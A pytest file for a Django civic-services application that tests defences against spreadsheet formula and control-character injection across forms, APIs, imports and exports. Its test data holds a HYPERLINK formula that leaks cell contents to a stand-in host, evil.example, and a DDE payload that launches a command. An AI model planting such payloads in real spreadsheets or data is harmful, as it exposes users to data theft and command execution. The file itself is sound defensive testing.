"""Hostile text through every public entry point and through imports, then every export.

Control characters, formulas (=, +, -, @, =HYPERLINK), right-to-left overrides, emoji and very long text are
submitted through the public demand form, Open311 POST, the API and the Excel imports; then every export the
URL configuration exposes (discovered from it, so a new export is checked without editing this file) must
answer 200 with a workbook openpyxl opens, no formula cell, no control character, and the text still there.
"""

from __future__ import annotations

import datetime as dt
import inspect
import io
import re
from decimal import Decimal

import icalendar
import pytest
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from jiceng.accounts.models import Role
from jiceng.activities import feeds
from jiceng.activities.models import Activity, ActivityKind
from jiceng.core.excel import FORMULA_TRIGGERS, XLSX, sheet_text, workbook_from_rows
from jiceng.core.sanitize import strip_control_chars
from jiceng.core.views import ObjectListView
from jiceng.demands import intake
from jiceng.demands.models import Category, Demand
from jiceng.enterprises.models import Enterprise
from jiceng.members.models import Member
from jiceng.venues import ics
from jiceng.venues.choices import BookingStatus
from jiceng.venues.models import Booking, Room
from tests import factories as f
from tests.test_import import ENT_HEADERS, MEM_HEADERS, as_row, ent_row, mem_row

C0 = "".join(chr(c) for c in range(32) if chr(c) not in "\t\n")
# Django's and DRF's text fields refuse NUL themselves (ProhibitNullCharactersValidator, with the field named);
# the other control characters are normalized (core/sanitize.py). See test_nul_is_refused_with_the_field_named.
C0_BUT_NUL = C0.replace("\x00", "")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f]")
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看详情")'
DDE = "=cmd|' /C calc'!A0"
RTL = "\u202e反向文字\u202c 和表情 😀🏢👍"
LONG = "很长的需求内容" * 285  # 1,995 characters, just under the 2,000 a demand may hold
HOSTILE_DEMANDS = [
    f"控制符{C0_BUT_NUL}结束\t制表\n换行\r\n回车\r完",
    HYPERLINK,
    "+1 楼道灯不亮了",
    "-2 层车库漏水严重",
    "@SUM(1,1) 停车位不够",
    "=1+1 电梯坏了很久",
    "＝SUM(1,2) 全角等号",
    RTL,
    LONG,
]


def normalized(text: str) -> str:
    return strip_control_chars(text).strip()


def excel_escaped(text: str) -> str:
    """A control character as Excel saves it in a cell (XML cannot hold it): "\x0b" is "_x000B_"."""
    return re.sub("[\x00-\x08\x0b-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", text)


def build_xlsx(headers: list[str], rows: list[list]) -> io.BytesIO:
    """A workbook as Excel saves typed text: "=..." as text cells, control characters escaped."""
    wb = Workbook()
    ws = wb.active
    ws.append(headers)
    for row in rows:
        ws.append([excel_escaped(v) if isinstance(v, str) else v for v in row])
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"  # openpyxl made it a formula; typed text is text
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    out.name = "hostile.xlsx"
    return out


# --- the export check --------------------------------------------------------------------------------------------


def workbook_texts(content: bytes) -> list[str]:
    """Every text cell of a workbook, after checking that no cell is a formula or holds a control character."""
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                value = cell.value
                if isinstance(value, str):
                    assert not CONTROL.search(value), (sheet.title, cell.coordinate, value)
                    if value.startswith(FORMULA_TRIGGERS):
                        # Text as typed, stored as text, and kept text when edited in Excel.
                        assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts.append(value)
    return texts


def url_patterns(resolver=None, namespace: str = ""):
    """(namespaced name, pattern) for every named URL of the project."""
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from url_patterns(pattern, inner)
        elif pattern.name:
            yield namespace + pattern.name, pattern


def view_class(pattern):
    return getattr(pattern.callback, "view_class", None)


def list_exports() -> list[str]:
    """Every list page (ObjectListView: `?export=xlsx`) reachable without URL arguments."""
    return sorted({name for name, pattern in url_patterns()
                   if view_class(pattern) is not None and issubclass(view_class(pattern), ObjectListView)
                   and not pattern.pattern.regex.groups})


def project_source(cls) -> str:
    """The code of a view class and of its project base classes (made-up classes have none)."""
    parts = []
    for klass in cls.__mro__:
        if klass.__module__.startswith("jiceng."):
            try:
                parts.append(inspect.getsource(klass))
            except (OSError, TypeError):
                pass
    return "\n".join(parts)


def custom_exports() -> set[str]:
    """Other views that answer `?export=xlsx` (their code says so)."""
    found = set()
    for name, pattern in url_patterns():
        cls = view_class(pattern)
        if cls is not None and not issubclass(cls, ObjectListView) and '"xlsx"' in project_source(cls):
            found.add(name)
    return found


@pytest.fixture
def world(tree, monkeypatch):
    monkeypatch.setattr(intake, "MIN_SECONDS", -1)  # the public form refuses submissions faster than typing
    org = f.organization(tree["building1"], DDE)  # a branch named like a DDE payload
    f.organization(tree["park1"], "甲支部")  # where imported members go
    member = f.member(org, "=HYPERLINK(\"http://x\")")
    # Stored before input was normalized (an older release); PostgreSQL cannot store NUL, so no NUL.
    f.member(org, "成员" + C0_BUT_NUL)
    Demand.objects.create(place=tree["building1"], text="旧数据里的垂直制表符\x0b和\x01控制符",
                          category=Category.objects.get(code="property"))
    return {
        "tree": tree, "org": org, "member": member,
        "admin": f.user("root", superuser=True),
        "staff": f.user("staff1", Role.STREET_STAFF, tree["street1"]),
        "district": f.user("district_admin", Role.DISTRICT_ADMIN, tree["district"]),
        "member_user": f.user("member1", Role.MEMBER, member),
    }


def submit_everywhere(client, world, texts: list[str]) -> None:
    building = world["tree"]["building1"]
    api = APIClient()
    api.force_authenticate(world["member_user"])
    key = Token.objects.get_or_create(user=world["member_user"])[0].key
    for index, text in enumerate(texts):
        # The public form (no login); each from its own address, past the per-client limit.
        response = client.post(reverse("demands:public_submit"), {
            "text": text, "place": building.pk, "requester_name": text[:50], "requester_phone": "13912345678",
            "website": "", "form_token": intake.form_token()}, REMOTE_ADDR=f"10.0.0.{index + 1}")
        assert response.status_code == 302, (index, response.context["form"].errors)
        # Open311 POST.
        response = client.post("/open311/v2/requests.json", {
            "api_key": key, "service_code": "property", "address_id": str(building.pk), "description": text,
            "first_name": text[:20], "last_name": ""})
        assert response.status_code == 200, response.content
        # The API.
        response = api.post("/api/demands/", {"text": text, "place": building.pk, "title": text[:100],
                                              "requester_name": text[:50]}, format="json")
        assert response.status_code == 201, response.content


def import_hostile(world) -> None:
    api = APIClient()
    api.force_authenticate(world["staff"])
    names = [HYPERLINK, DDE, "+86 贸易公司", "-负号公司", "@提及公司", "控制" + C0 + "公司", RTL]
    rows = [as_row(ENT_HEADERS, ent_row(i, 名称=name, 注册地址="地址\x0b第二行")) for i, name in enumerate(names)]
    response = api.post("/api/enterprises/import/", {"file": build_xlsx(ENT_HEADERS, rows)}, format="multipart")
    assert response.status_code == 201, response.json()
    assert response.json()["created"] == len(names)
    rows = [as_row(MEM_HEADERS, mem_row(i, 姓名=name[:20], 居住地=name)) for i, name in enumerate(names)]
    response = api.post("/api/members/import/", {"file": build_xlsx(MEM_HEADERS, rows)}, format="multipart")
    assert response.status_code == 201, response.json()


def test_hostile_text_through_every_entry_point_then_every_export(client, world):
    submit_everywhere(client, world, HOSTILE_DEMANDS)
    import_hostile(world)

    # Input was normalized where it came in: no control character is stored, the rest is as typed.
    assert Demand.objects.filter(source__in=["public", "api"]).count() == 3 * len(HOSTILE_DEMANDS)
    for demand in Demand.objects.exclude(text__startswith="旧数据"):
        for value in (demand.text, demand.title, demand.requester_name):
            assert not CONTROL.search(value), value
    assert Demand.objects.filter(text=HYPERLINK).count() == 3
    assert Demand.objects.filter(text=RTL).count() == 3 and Demand.objects.filter(text=LONG).count() == 3
    typed = normalized(HOSTILE_DEMANDS[0])
    assert typed == "控制符\n\n\n结束\t制表\n换行\n回车\n完"  # VT, FF and CR were line breaks
    assert Demand.objects.filter(text=typed).count() == 3
    assert Enterprise.objects.get(name=normalized("控制" + C0 + "公司")).registered_address == "地址\n第二行"
    assert Enterprise.objects.filter(name=HYPERLINK).exists() and Member.objects.filter(name=HYPERLINK[:20]).exists()

    exports = list_exports()
    # The generic discovery finds the lists people export most; if it found none, the test would prove nothing.
    assert {"demands:demand_list", "enterprises:enterprise_list", "members:member_list", "risk:list",
            "venues:booking_list"} <= set(exports)
    custom = {
        "matching:statistics": {"year": timezone.localdate().year},
        "activities:compliance": {},
        "activities:pioneer": {},
        "members:dues_report": {"organization": world["org"].pk},
        "organizations:coverage": {"place": world["tree"]["district"].pk},
        "matrix:report": {"year": timezone.localdate().year},
        **{name: {"year": timezone.localdate().year, "place": world["tree"]["district"].pk}
           for name in ("reports:party_statistics", "reports:projects", "reports:demands")},
    }
    assert custom_exports() == set(custom), "a new export: add its parameters to `custom`"

    texts_by_export: dict[str, list[str]] = {}
    client.force_login(world["admin"])
    for name in exports:
        response = client.get(reverse(name), {"export": "xlsx"})
        assert response.status_code == 200 and response["Content-Type"] == XLSX, name
        texts_by_export[name] = workbook_texts(response.content)
    for name, params in custom.items():
        response = client.get(reverse(name), {"export": "xlsx", **params})
        assert response.status_code == 200 and response["Content-Type"] == XLSX, name
        texts_by_export[name] = workbook_texts(response.content)

    # The text is still readable: exactly as stored, formulas shown as text.
    demands = set(texts_by_export["demands:demand_list"])
    assert {sheet_text(str(demand)) for demand in Demand.objects.all()} <= demands  # the list shows str(demand)
    assert HYPERLINK in demands and RTL in demands and "+1 楼道灯不亮了" in demands  # titles given through the API
    assert HYPERLINK[:30] in demands and LONG[:30] in demands  # the start of the text, without a title
    assert "旧数据里的垂直制表符\n和控制符" in demands  # data stored before the input rule
    for name in ("enterprises:enterprise_list", "risk:list"):
        assert {HYPERLINK, DDE, "+86 贸易公司", "-负号公司", "@提及公司", RTL} <= set(texts_by_export[name]), name
    assert any(text.startswith("成员") for text in texts_by_export["members:member_list"])
    assert DDE in texts_by_export["activities:compliance"]  # a row per branch

    # The PDF exports print the same hostile text (control characters dropped, formulas as text) and open.
    import pypdf

    for name in ("organizations:coverage", "reports:party_statistics"):
        response = client.get(reverse(name), {"export": "pdf", **custom[name]})
        assert response.status_code == 200 and response["Content-Type"] == "application/pdf", name
        assert pypdf.PdfReader(io.BytesIO(response.content)).pages[0].extract_text(), name

    # The street's staff, whose export the issue was about, gets the same.
    client.force_login(world["staff"])
    response = client.get(reverse("demands:demand_list"), {"export": "xlsx"})
    assert response.status_code == 200 and HYPERLINK in workbook_texts(response.content)


def test_nul_is_refused_with_the_field_named(client, world):
    building = world["tree"]["building1"]
    text = "电梯坏了\x00很久"
    response = client.post(reverse("demands:public_submit"), {
        "text": text, "place": building.pk, "website": "", "form_token": intake.form_token()})
    assert response.status_code == 200 and list(response.context["form"].errors) == ["text"]
    api = APIClient()
    api.force_authenticate(world["member_user"])
    response = api.post("/api/demands/", {"text": text, "place": building.pk}, format="json")
    assert response.status_code == 400 and list(response.json()) == ["text"]
    # Open311 reads the raw POST: the character is dropped like any other control character.
    key = Token.objects.get_or_create(user=world["member_user"])[0].key
    response = client.post("/open311/v2/requests.json", {
        "api_key": key, "service_code": "property", "address_id": str(building.pk), "description": text})
    assert response.status_code == 200
    assert Demand.objects.filter(text="电梯坏了很久").count() == 1


def test_calendar_feeds_drop_control_characters(client, world):
    """The ICS exports (activity feeds, room feeds) stay valid with control characters in stored text."""
    org = world["org"]
    start = timezone.now() + dt.timedelta(days=3)
    Activity.objects.create(organization=org, kind=ActivityKind.THEME_DAY, title="主题党日\x0b第二行\x07",
                            description="说明\x01内容", location="三楼\x1b会议室", start=start,
                            end=start + dt.timedelta(hours=2))
    ent = f.enterprise(world["tree"]["building1"], "借用\x08企业")
    station = f.place("服务站\x0c", "station", world["tree"]["park1"])
    room = Room.objects.create(place=station, name="多功能厅\x1f", capacity=10, closed_on_holidays=False)
    Booking.objects.create(room=room, start=start, end=start + dt.timedelta(hours=1), enterprise=ent,
                           purpose="微党课\x0b", attendees=5, status=BookingStatus.APPROVED,
                           requested_by=world["admin"])
    for response in (
        client.get(reverse("activities:feed", args=[feeds.feed_token(feeds.ORGANIZATION, org.pk)])),
        client.get(reverse("venues:room_ics", args=[room.pk]), {"token": ics.feed_token(room, world["admin"])}),
    ):
        assert response.status_code == 200
        body = response.content.decode()
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", body), body
        (event,) = icalendar.Calendar.from_ical(response.content).walk("VEVENT")
        assert "第二行" in str(event["SUMMARY"]) or "微党课" in str(event["SUMMARY"])


def test_ics_feed_routes_are_the_ones_checked():
    assert {name for name, pattern in url_patterns() if str(pattern.pattern).endswith(".ics") or
            "calendar.ics" in str(pattern.pattern)} == {"activities:feed", "venues:room_ics"}


# --- the cell rules themselves ----------------------------------------------------------------------------------


def test_numbers_stay_numbers_and_only_text_is_neutralized():
    wb = workbook_from_rows([("表", ["金额", "文本", "日期"], [
        [-5, "-5", dt.date(2024, 1, 2)],
        [Decimal("-12.50"), "=1+1", None],
        [3.5, "#N/A", True],
        [0, "\t=制表开头", "@提及"],
    ])])
    out = io.BytesIO()
    wb.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    rows = list(sheet.iter_rows(min_row=2))
    assert rows[0][0].value == -5 and rows[0][0].data_type == "n"
    assert rows[1][0].value == Decimal("-12.50") or rows[1][0].value == -12.5
    assert rows[1][0].data_type == "n" and rows[2][0].data_type == "n"
    assert [(row[1].value, row[1].data_type, bool(row[1].quotePrefix)) for row in rows] == [
        ("-5", "s", True), ("=1+1", "s", True), ("#N/A", "s", True), ("\t=制表开头", "s", True)]
    assert rows[3][2].value == "@提及" and rows[3][2].quotePrefix
    assert rows[0][2].value == dt.datetime(2024, 1, 2) and rows[2][2].value is True


def test_control_characters_are_normalized_not_refused():
    assert strip_control_chars("a\r\nb\rc\x0bd\x0ce\x00f\x1bg\x7fh\ti\nj") == "a\nb\nc\nd\nef" + "gh\ti\nj"
    assert strip_control_chars("平常的文字 😀\u202e") == "平常的文字 😀\u202e"


def test_very_long_text_is_cut_visibly():
    wb = workbook_from_rows([("表", ["长"], [["字" * 40_000]])])
    out = io.BytesIO()
    wb.save(out)
    value = load_workbook(io.BytesIO(out.getvalue())).active["A2"].value
    assert len(value) == 32_767 and value.endswith("…")


def test_public_activity_sign_up_name_is_normalized(client, world):
    from jiceng.activities import services

    start = timezone.now() + dt.timedelta(days=3)
    activity = Activity.objects.create(organization=world["org"], kind=ActivityKind.THEME_DAY, title="开放日",
                                       start=start, end=start + dt.timedelta(hours=2), public=True)
    signup = services.sign_up(activity, name="王小\x00明\x1b", phone="13912345678")
    assert signup.name == "王小明"
